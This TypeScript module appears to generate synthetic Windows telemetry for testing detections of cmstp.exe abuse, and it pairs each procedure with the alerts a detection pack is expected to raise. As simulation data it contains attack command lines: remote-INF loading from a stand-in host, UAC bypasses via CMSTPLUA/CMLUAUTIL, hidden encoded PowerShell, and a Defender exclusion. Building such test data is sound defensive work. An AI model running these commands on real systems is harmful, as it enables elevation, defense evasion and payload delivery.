// The catalogue: each procedure as it unfolds on a host (processes, loads, files, registry,
// network), from the public tests and samples (Atomic T1218.003, WinPwnage 17, UACME 41, ATT&CK
// procedure examples) and the legitimate Connection Manager profile installs, with what a
// detection pack is expected to raise on each telemetry source.

import type { Host, Proc, Scenario, Source } from './model.js';
import { CMLUAUTIL, CMSTPLUA, PE, SYSTEM32, World, winPe } from './world.js';

export type ExpectLevel = 'low' | 'medium' | 'high' | 'critical';

/** What a pack must raise on one source: a finding with one of these techniques at or above a level. */
export interface Expectation {
  techniques: string[];
  minLevel: ExpectLevel;
}

export interface Procedure {
  name: string;
  title: string;
  /** Where the shape comes from. */
  basis: string;
  /** Legitimate activity: no finding at medium or above on any source. */
  benign: boolean;
  /** Per source; a source without an entry has no expectation (the reason is in `gaps`). */
  expect: Partial<Record<Source, Expectation>>;
  gaps: Partial<Record<Source, string>>;
  build(w: World): void;
}

const CMSTP = `${SYSTEM32}\\cmstp.exe`;
const UAC: Expectation = { techniques: ['T1218.003', 'T1548.002'], minLevel: 'medium' };
const PROXY: Expectation = { techniques: ['T1218.003'], minLevel: 'medium' };
const ALL = (e: Expectation): Partial<Record<Source, Expectation>> => ({ sysmon: e, security: e, ecs: e, mde: e });

const CMSTP_LOADS = ['cmutil.dll', 'cmcfg32.dll', 'rasapi32.dll', 'rasman.dll', 'cmlua.dll', 'cmstplua.dll'];
const ELEVATED_LOADS = ['cmstplua.dll', 'cmlua.dll', 'cmutil.dll', 'advpack.dll', 'setupapi.dll'];
const CALLTRACE_CMLUA =
  'C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e|C:\\Windows\\System32\\KERNEL32.DLL+1cd23|C:\\Windows\\SYSTEM32\\advpack.dll+8d58|C:\\Windows\\SYSTEM32\\advpack.dll+8a3d|C:\\Windows\\SYSTEM32\\cmlua.dll+4a1c|C:\\Windows\\SYSTEM32\\cmlua.dll+1d3b|C:\\Windows\\System32\\RPCRT4.dll+76953|C:\\Windows\\System32\\combase.dll+5a8f6';

function powershell(w: World, ms: number): Proc {
  return w.spawn(ms, w.explorer, {
    image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    commandLine: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
    pe: PE.powershell,
  });
}

function cmstpLoads(w: World, ms: number, p: Proc): void {
  CMSTP_LOADS.forEach((dll, i) => w.load(ms + i * 3, p, `${SYSTEM32}\\${dll}`, winPe('Microsoft Connection Manager', dll, '7.2.19041.1 (WinBuild.160101.0800)')));
}

/** The INF-driven elevation shared by Atomic 2 and WinPwnage: cmstp → DllHost CMSTPLUA → payload. */
function infElevation(w: World, ms: number, cmstp: Proc, shortSvc: string, payload: string): void {
  cmstpLoads(w, ms + 20, cmstp);
  w.registry(ms + 45, cmstp, 'HKLM\\SOFTWARE\\Microsoft\\Tracing\\CMSTP\\EnableFileTracing', 'DWORD (0x00000000)');
  const host = w.elevatedDllhost(ms + 310, CMSTPLUA);
  ELEVATED_LOADS.forEach((dll, i) => w.load(ms + 330 + i * 4, host, `${SYSTEM32}\\${dll}`, winPe('Microsoft Connection Manager', dll)));
  w.registry(ms + 402, host, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\cmmgr32.exe', '', 'CreateKey');
  w.registry(ms + 403, host, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\cmmgr32.exe\\ProfileInstallPath', 'C:\\ProgramData\\Microsoft\\Network\\Connections\\Cm');
  w.file(ms + 410, host, `C:\\ProgramData\\Microsoft\\Network\\Connections\\Cm\\${shortSvc}`);
  const child = w.spawn(ms + 455, host, {
    image: `${SYSTEM32}\\cmd.exe`,
    commandLine: payload,
    currentDirectory: 'C:\\Windows\\system32\\',
    integrity: 'High',
    elevation: 2,
    logon: w.userLogonElevated,
    pe: PE.cmd,
  });
  w.access(ms + 456, host, child, '0x1FFFFF', CALLTRACE_CMLUA);
  w.file(ms + 520, cmstp, 'C:\\ProgramData\\Microsoft\\Network\\Connections\\Pbk\\rasphone.pbk');
}

export const PROCEDURES: readonly Procedure[] = [
  {
    name: 'atomic-t1218.003-1',
    title: 'Atomic T1218.003 #1: CMSTP executing a remote scriptlet (UnRegisterOCXs, scrobj.dll)',
    basis: 'Atomic Red Team T1218.003 test 1 (34e63321-9683-496b-bbc1-7566bc55e624); the rules\u2019 premises, no public sample',
    benign: false,
    expect: ALL(PROXY),
    gaps: {},
    build(w) {
      const ps = powershell(w, 0);
      const inf = 'C:\\AtomicRedTeam\\atomics\\T1218.003\\src\\T1218.003.inf';
      const cmstp = w.spawn(2_140, ps, { image: CMSTP, commandLine: `"C:\\Windows\\system32\\cmstp.exe" /s ${inf}`, pe: PE.cmstp });
      cmstpLoads(w, 2_160, cmstp);
      w.load(2_230, cmstp, `${SYSTEM32}\\scrobj.dll`, winPe('Windows \u00ae Script Component Runtime', 'scrobj.dll', '5.812.10240.16384'));
      w.connect(2_310, cmstp, '185.199.108.133', 'raw.githubusercontent.com');
      w.file(2_702, cmstp, `C:\\Users\\${w.user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\6V3K9QZ1\\T1218.003[1].sct`);
      w.spawn(2_815, cmstp, { image: `${SYSTEM32}\\calc.exe`, commandLine: '"C:\\Windows\\System32\\calc.exe" ', currentDirectory: 'C:\\AtomicRedTeam\\atomics\\T1218.003\\src\\', pe: PE.calc });
    },
  },
  {
    name: 'atomic-t1218.003-2',
    title: 'Atomic T1218.003 #2: CMSTP UAC bypass (RunPreSetupCommands, /au)',
    basis: 'Atomic Red Team T1218.003 test 2; OTRF SDWIN-201022015432 (Sysmon and Security 4688)',
    benign: false,
    expect: ALL(UAC),
    gaps: {},
    build(w) {
      const ps = powershell(w, 0);
      const cmstp = w.spawn(1_530, ps, { image: CMSTP, commandLine: '"C:\\Windows\\system32\\cmstp.exe" /s C:\\ProgramData\\T1218.003_uacbypass.inf /au', pe: PE.cmstp });
      infElevation(w, 1_530, cmstp, 'malcorp', 'c:\\windows\\system32\\cmd.exe');
    },
  },
  {
    name: 'winpwnage-au',
    title: 'WinPwnage method 17: cmstp /au with a .ini INF from %TEMP%, no /s',
    basis: 'EVTX-ATTACK-SAMPLES sysmon_1_13_11_cmstp_ini_uacbypass.evtx',
    benign: false,
    expect: ALL(UAC),
    gaps: {},
    build(w) {
      const cmd = w.spawn(0, w.explorer, { image: `${SYSTEM32}\\cmd.exe`, commandLine: '"C:\\Windows\\system32\\cmd.exe" ', pe: PE.cmd });
      const python = w.spawn(8_020, cmd, {
        image: 'C:\\Python27\\python.exe',
        commandLine: 'python  winpwnage.py -u uac -i 17 -p c:\\windows\\System32\\cmd.exe',
        currentDirectory: `C:\\Users\\${w.user.name}\\Downloads\\WinPwnage-master\\`,
        pe: { fileVersion: '?', description: '?', product: '?', company: '?', originalFileName: '?' },
      });
      const ini = `C:\\Users\\${w.user.name}\\AppData\\Local\\Temp\\tmp.ini`;
      w.file(8_207, python, ini);
      const cmstp = w.spawn(10_266, python, {
        image: CMSTP,
        commandLine: `"C:\\Windows\\System32\\cmstp.exe" /au ${ini.toLowerCase()}`,
        currentDirectory: python.currentDirectory,
        pe: PE.cmstp,
      });
      infElevation(w, 10_266, cmstp, 'corpvpn', 'c:\\windows\\System32\\cmd.exe');
    },
  },
  {
    name: 'uacme-41',
    title: 'UACME 41: ICMLuaUtil::ShellExec through the elevated CMSTPLUA COM object (no cmstp.exe)',
    basis: 'EVTX-ATTACK-SAMPLES Sysmon_UACME_41.evtx; UACME api0cradle.c',
    benign: false,
    // On 4688 the CLSID is reached by joining creator and new process ids (process lineage).
    expect: ALL(UAC),
    gaps: {},
    build(w) {
      const cmd = w.spawn(0, w.explorer, { image: `${SYSTEM32}\\cmd.exe`, commandLine: '"C:\\Windows\\system32\\cmd.exe" ', pe: PE.cmd });
      // UACME masquerades its PEB as explorer.exe, but Sysmon records the real image at creation.
      w.spawn(6_410, cmd, {
        image: `C:\\Users\\${w.user.name}\\Desktop\\UACME\\UACME.exe`,
        commandLine: 'UACME.exe  41',
        currentDirectory: `C:\\Users\\${w.user.name}\\Desktop\\UACME\\`,
        pe: { fileVersion: '3.1.9.2105', description: 'UACMe main module', product: 'UACMe', company: 'UG North', originalFileName: 'Akagi.exe' },
      });
      w.consent(6_520);
      const host = w.elevatedDllhost(7_004, CMSTPLUA);
      ['cmstplua.dll', 'cmlua.dll', 'cmutil.dll'].forEach((dll, i) => w.load(7_020 + i * 4, host, `${SYSTEM32}\\${dll}`, winPe('Microsoft Connection Manager', dll)));
      w.spawn(7_131, host, { image: `${SYSTEM32}\\cmd.exe`, commandLine: '"C:\\Windows\\system32\\cmd.exe"', currentDirectory: 'C:\\Windows\\system32\\', integrity: 'High', elevation: 2, logon: w.userLogonElevated, pe: PE.cmd });
    },
  },
  {
    name: 'uacme-cmluautil',
    title: 'CMLUAUTIL variant: an elevated child of DllHost /Processid:{3E000D72-…}',
    basis: 'the CMLUAUTIL CLSID in SIG-05, ATT-02 and CAPE; the process shape of UACME 41',
    benign: false,
    expect: ALL(UAC),
    gaps: {},
    build(w) {
      w.spawn(0, w.explorer, {
        image: `C:\\Users\\${w.user.name}\\AppData\\Local\\Temp\\upd4471.exe`,
        commandLine: `"C:\\Users\\${w.user.name}\\AppData\\Local\\Temp\\upd4471.exe" `,
        currentDirectory: `C:\\Users\\${w.user.name}\\AppData\\Local\\Temp\\`,
        pe: { fileVersion: '1.0.0.0', description: 'Updater', product: 'Updater', company: '', originalFileName: 'upd.exe' },
      });
      w.consent(140);
      const host = w.elevatedDllhost(602, CMLUAUTIL);
      w.load(618, host, `${SYSTEM32}\\cmlua.dll`, winPe('Microsoft Connection Manager', 'cmlua.dll'));
      w.spawn(733, host, {
        image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
        commandLine: 'powershell.exe -NoP -W Hidden -C "Add-MpPreference -ExclusionPath C:\\Users\\Public"',
        currentDirectory: 'C:\\Windows\\system32\\',
        integrity: 'High',
        elevation: 2,
        logon: w.userLogonElevated,
        pe: PE.powershell,
      });
    },
  },
  {
    name: 'cobalt-group-ns-txt',
    title: 'Cobalt Group: cmstp.exe /s /ns with a .txt INF in %TEMP%',
    basis: 'ATT&CK G0080 procedure example (Talos, Morphisec, Unit 42 2018)',
    benign: false,
    expect: ALL(PROXY),
    gaps: {},
    build(w) {
      const word = w.spawn(0, w.explorer, {
        image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        commandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${w.user.name}\\Downloads\\Invoice_0318.doc" /o ""`,
        pe: { fileVersion: '16.0.17328.20162', description: 'Microsoft Word', product: 'Microsoft Office', company: 'Microsoft Corporation', originalFileName: 'WinWord.exe' },
      });
      const txt = `C:\\Users\\${w.user.name.toUpperCase().slice(0, 6)}~W\\AppData\\Local\\Temp\\XKNqbpzl.txt`;
      w.file(4_100, word, `C:\\Users\\${w.user.name}\\AppData\\Local\\Temp\\XKNqbpzl.txt`);
      const cmstp = w.spawn(4_388, word, { image: CMSTP, commandLine: `cmstp.exe /s /ns ${txt}`, pe: PE.cmstp });
      cmstpLoads(w, 4_400, cmstp);
      w.load(4_470, cmstp, `${SYSTEM32}\\scrobj.dll`, winPe('Windows \u00ae Script Component Runtime', 'scrobj.dll', '5.812.10240.16384'));
      w.connect(4_610, cmstp, '198.51.100.77', 'cdn-update.example.net');
    },
  },
  {
    name: 'muddywater-remote-inf',
    title: 'MuddyWater-style: cmstp.exe with a remote INF URL, PowerShell payload',
    basis: 'ATT&CK G0069 procedure example; LOLBAS remote INF form (cmstp.exe /ni /s https://…)',
    benign: false,
    expect: ALL(PROXY),
    gaps: {},
    build(w) {
      const ps = powershell(w, 0);
      const cmstp = w.spawn(3_020, ps, { image: CMSTP, commandLine: 'cmstp.exe /ni /s https://files.example-cdn.net/update/vpn.inf', pe: PE.cmstp });
      w.connect(3_140, cmstp, '203.0.113.45', 'files.example-cdn.net');
      cmstpLoads(w, 3_310, cmstp);
      w.spawn(3_905, cmstp, {
        image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
        commandLine: 'powershell.exe -w hidden -ep bypass -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA==',
        pe: PE.powershell,
      });
    },
  },
  {
    name: 'renamed-cmstp',
    title: 'Renamed cmstp.exe copied to C:\\Users\\Public',
    basis: 'G4: OriginalFileName CMSTP.EXE outside System32 (SIG-12, EPA-03)',
    benign: false,
    expect: { sysmon: PROXY, ecs: PROXY, mde: PROXY },
    gaps: { security: '4688 has no OriginalFileName: a renamed copy is only visible by its path and arguments' },
    build(w) {
      const cmd = w.spawn(0, w.explorer, { image: `${SYSTEM32}\\cmd.exe`, commandLine: 'cmd.exe /c copy C:\\Windows\\System32\\cmstp.exe C:\\Users\\Public\\vpnsetup.exe', pe: PE.cmd });
      w.file(120, cmd, 'C:\\Users\\Public\\vpnsetup.exe');
      const renamed = w.spawn(1_840, w.explorer, {
        image: 'C:\\Users\\Public\\vpnsetup.exe',
        commandLine: '"C:\\Users\\Public\\vpnsetup.exe" /s /ns C:\\Users\\Public\\p.inf',
        currentDirectory: 'C:\\Users\\Public\\',
        pe: PE.cmstp,
        hashesFrom: CMSTP,
      });
      w.load(1_910, renamed, `${SYSTEM32}\\scrobj.dll`, winPe('Windows \u00ae Script Component Runtime', 'scrobj.dll', '5.812.10240.16384'));
    },
  },
  {
    name: 'cmstp-external-connection',
    title: 'cmstp.exe connecting to an Internet address while installing a profile from Downloads',
    basis: 'SIG-08, ELA-04, CAR-01 premises (cmstp.exe outbound to a public address)',
    benign: false,
    expect: ALL(PROXY),
    gaps: {},
    build(w) {
      const inf = `C:\\Users\\${w.user.name}\\Downloads\\corp-vpn.inf`;
      const cmstp = w.spawn(0, w.explorer, { image: CMSTP, commandLine: `"C:\\Windows\\system32\\cmstp.exe" /ni /s "${inf}"`, currentDirectory: `C:\\Users\\${w.user.name}\\Downloads\\`, pe: PE.cmstp });
      cmstpLoads(w, 30, cmstp);
      w.connect(611, cmstp, '192.0.2.200', 'vpn-profile.example.org', 8443);
    },
  },
  {
    name: 'legit-cmak-profile',
    title: 'Legitimate: a user installs a CMAK VPN profile from its self-extracting package',
    basis: 'Microsoft cmstp syntax 1 (profile .exe /q:a /c:"cmstp.exe <profile>.inf"); CM profile artefacts',
    benign: true,
    expect: {},
    gaps: {},
    build(w) {
      const pkg = w.spawn(0, w.explorer, {
        image: `C:\\Users\\${w.user.name}\\Downloads\\ContosoVPN.exe`,
        commandLine: `"C:\\Users\\${w.user.name}\\Downloads\\ContosoVPN.exe" `,
        currentDirectory: `C:\\Users\\${w.user.name}\\Downloads\\`,
        pe: { fileVersion: '7.2.19041.1', description: 'Contoso VPN Connection Manager profile', product: 'Contoso VPN', company: 'Contoso Ltd.', originalFileName: 'WEXTRACT.EXE' },
      });
      const ixp = `C:\\Users\\${w.user.name}\\AppData\\Local\\Temp\\IXP000.TMP`;
      for (const f of ['contoso.inf', 'contoso.cms', 'contoso.cmp', 'contoso.pbk']) w.file(410, pkg, `${ixp}\\${f}`);
      const cmstp = w.spawn(1_220, pkg, { image: CMSTP, commandLine: 'cmstp.exe contoso.inf', currentDirectory: `${ixp}\\`, pe: PE.cmstp });
      cmstpLoads(w, 1_240, cmstp);
      const cm = `C:\\Users\\${w.user.name}\\AppData\\Roaming\\Microsoft\\Network\\Connections\\Cm`;
      w.file(3_902, cmstp, `${cm}\\contoso.cmp`);
      w.file(3_918, cmstp, `${cm}\\contoso\\contoso.cms`);
      w.registry(4_015, cmstp, `HKU\\${w.user.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\contoso\\UninstallString`, `C:\\Windows\\system32\\cmstp.exe /u "${cm}\\contoso.inf"`);
    },
  },
  {
    name: 'legit-sccm-profile',
    title: 'Legitimate: Configuration Manager deploys an all-users VPN profile silently as SYSTEM',
    basis: 'Microsoft "Including Connection Manager in Custom Applications" (SCCM/SMS deployment, /q:a /c:"cmstp.exe … /s")',
    benign: true,
    expect: {},
    gaps: {},
    build(w) {
      const sys = { account: w.system, integrity: 'System' as const, elevation: 1 as const, logon: w.systemLogon };
      const ccm = w.running(w.at(-3_600_000), { image: 'C:\\Windows\\CCM\\CcmExec.exe', commandLine: 'C:\\Windows\\CCM\\CcmExec.exe', pe: PE.ccmexec, ...sys }, w.services);
      const pkg = w.spawn(0, ccm, {
        image: 'C:\\Windows\\ccmcache\\1a\\CorpVPN.exe',
        commandLine: '"C:\\Windows\\ccmcache\\1a\\CorpVPN.exe" /q:a /c:"cmstp.exe CorpVPN.inf /s /au"',
        currentDirectory: 'C:\\Windows\\ccmcache\\1a\\',
        pe: { fileVersion: '7.2.19041.1', description: 'CorpVPN Connection Manager profile', product: 'CorpVPN', company: 'Contoso Ltd.', originalFileName: 'WEXTRACT.EXE' },
        ...sys,
      });
      const ixp = 'C:\\Windows\\Temp\\IXP000.TMP';
      for (const f of ['CorpVPN.inf', 'CorpVPN.cms', 'CorpVPN.cmp']) w.file(380, pkg, `${ixp}\\${f}`);
      const cmstp = w.spawn(990, pkg, { image: CMSTP, commandLine: 'cmstp.exe CorpVPN.inf /s /au', currentDirectory: `${ixp}\\`, pe: PE.cmstp, ...sys });
      cmstpLoads(w, 1_010, cmstp);
      // The all-users install records where profiles live: the same key the UAC-bypass INF makes DllHost write.
      w.registry(2_050, cmstp, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\cmmgr32.exe\\ProfileInstallPath', 'C:\\ProgramData\\Microsoft\\Network\\Connections\\Cm');
      w.file(2_104, cmstp, 'C:\\ProgramData\\Microsoft\\Network\\Connections\\Cm\\CorpVPN.cmp');
      w.file(2_133, cmstp, 'C:\\ProgramData\\Microsoft\\Network\\Connections\\Pbk\\rasphone.pbk');
    },
  },
];

export function findProcedure(name: string): Procedure | undefined {
  return PROCEDURES.find((p) => p.name === name.toLowerCase());
}

/** Fixed base times, ten minutes apart, so procedures merged into one log do not interleave. */
export function baseTime(name: string): Date {
  const i = Math.max(0, PROCEDURES.findIndex((p) => p.name === name));
  return new Date(Date.UTC(2026, 2, 17, 9, 0, 0) + i * 600_000 + 317);
}

export function buildScenario(p: Procedure, host: Host, seed: string): Scenario {
  const w = new World(p.name, host, seed, baseTime(p.name));
  p.build(w);
  return w.scenario();
}
